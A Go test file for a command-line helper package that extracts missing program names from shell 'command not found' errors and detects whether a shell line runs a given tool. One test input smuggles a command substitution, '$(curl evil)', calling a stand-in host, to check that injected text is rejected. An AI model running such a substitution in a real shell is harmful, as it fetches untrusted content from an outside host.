package cmdline

import "testing"

func TestMissingProgram(t *testing.T) {
	for line, want := range map[string]string{
		"zsh:1: command not found: go":                                  "go",
		"(eval):1: command not found: python":                           "python",
		"/bin/bash: line 1: go: command not found":                      "go",
		"sh: 1: psql: not found":                                        "psql",
		"checkpoint not found: 0a1b":                                    "",
		"Error: module x: not found":                                    "",
		"(eval):1: == not found":                                        "",
		"bash: /usr/bin/tool: command not found":                        "",
		"zsh: command not found: $(curl evil) | 'x'":                    "",
		"The command 'docker' could not be found in this WSL 2 distro.": "docker",
	} {
		if got := MissingProgram(line); got != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

func TestRuns(t *testing.T) {
	for _, tc := range []struct {
		line          string
		runs, plainly bool
	}{
		{"go test ./...", true, true},
		{"cd x && go test ./...", true, true},
		{"PATH=$PATH:/usr/local/go/bin go build", true, false},
		{"source env.sh && go build", true, false},
		{"/usr/local/go/bin/go build", true, false},
		{"mise exec -- go version", true, false},
		{"which go", false, false},
		{"brew install go", false, false},
		{"go3 build", true, false},
	} {
		if Runs(tc.line, "go") != tc.runs || Plainly(tc.line, "go") != tc.plainly {
			t.Errorf("%q: %t %t", tc.line, Runs(tc.line, "go"), Plainly(tc.line, "go"))
		}
	}
}

// TestRunsOtherwise: a program that is not installed is run by the tools that fetch or know it.
func TestRunsOtherwise(t *testing.T) {
	for _, line := range []string{"go run github.com/golangci/golangci-lint/cmd/golangci-lint@latest run", "go tool golangci-lint run", "npm exec golangci-lint"} {
		if !Runs(line, "golangci-lint") || Plainly(line, "golangci-lint") {
			t.Errorf("%q: %t %t", line, Runs(line, "golangci-lint"), Plainly(line, "golangci-lint"))
		}
	}
	if !Runs("python -m pytest -q", "pytest") || Runs("echo golangci-lint", "golangci-lint") {
		t.Error("python -m, or what only names the program")
	}
}
